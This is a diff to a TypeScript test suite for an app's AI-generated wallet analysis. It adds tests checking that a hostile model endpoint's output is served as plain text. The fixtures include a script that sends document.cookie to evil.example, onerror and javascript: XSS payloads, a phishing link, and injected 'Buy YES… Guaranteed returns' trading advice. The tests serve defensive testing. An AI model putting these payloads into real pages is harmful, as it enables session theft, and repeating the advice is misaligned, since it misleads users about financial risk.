@@ -12,6 +12,23 @@ import { storeBackends } from "../support/backends.js";
 import { completion, type ChatReply } from "../support/chat-server.js";
 import { goodAnswer, openAiWorld, openSecondApp, type AiWorld } from "./ai-analysis.support.js";
 
+/** Markup a hostile model endpoint answered with (issue 45). */
+const HOSTILE_MARKUP = [
+  "[claim here](https://evil.example/phish), and the rest.",
+  "<script>fetch('https://evil.example/?c=' + document.cookie)</script>",
+  '<img src=x onerror="alert(1)"> <a href="javascript:alert(2)">more</a> www.evil.example',
+].join("\n");
+
+/** The good answer with `text` added to its summary. */
+const withSummary = (facts: Record<string, any>, text: string): ChatReply => ({
+  body: completion(
+    (goodAnswer(facts).body as ReturnType<typeof completion>).choices[0]!.message.content.replace(
+      "## Style",
+      `${text}\n\n## Style`,
+    ),
+  ),
+});
+
 describe.each(storeBackends)("AI analysis failures on $kind", (backend) => {
   let t: AiWorld;
   const saved = (wallet: string) =>
@@ -49,6 +66,11 @@ describe.each(storeBackends)("AI analysis failures on $kind", (backend) => {
         }),
       ],
       ["model_http_error", () => ({ status: 500, body: { error: { message: "model overloaded" } } })],
+      // Issue 45's hostile endpoint: markup, and an instruction to trade with a claim of certain returns.
+      [
+        "trading_advice",
+        (f) => withSummary(f, `${HOSTILE_MARKUP}\nBuy YES on every market it enters. Guaranteed returns.`),
+      ],
     ];
     expect((await t.get(wallet)).body.status).toBe("pending");
     let attempts = 0;
@@ -74,6 +96,24 @@ describe.each(storeBackends)("AI analysis failures on $kind", (backend) => {
     await t.w.app.aiAnalysis.settle();
     expect((await t.get(wallet)).body).toMatchObject({ status: "ready", generator: "model" });
     expect(await job(wallet)).toBeUndefined();
+  });
+
+  it("serves a model's report as plain text: its links, HTML and URLs removed, the names it quotes inert", async () => {
+    const wallet = t.wallets[3]!;
+    answerWith((f) => withSummary(f, HOSTILE_MARKUP));
+    const generated = await t.generate(wallet, "?force=true");
+    expect(generated.status).toBe(200);
+    expect(generated.body.generator).toBe("model");
+    const served = await t.get(wallet);
+    expect(served.body.status).toBe("ready");
+    const texts = [served.body.report, ...served.body.sections.map((s: { text: string }) => s.text)];
+    for (const text of texts)
+      for (const markup of ["<", ">", "](", "http", "www.", "javascript:", "evil.example"])
+        expect(text, markup).not.toContain(markup);
+    expect(served.body.sections[0].text).toContain("claim here, and the rest.");
+    answerWith(goodAnswer);
+    // The concurrency test below asks for this wallet afresh.
+    await aiDb(t.w.store.db).deleteFrom("ai_analyses").where("wallet", "=", wallet).execute();
   });
 
   it("answers a failed generate call 502 and keeps the wallet queued for its retry", async () => {
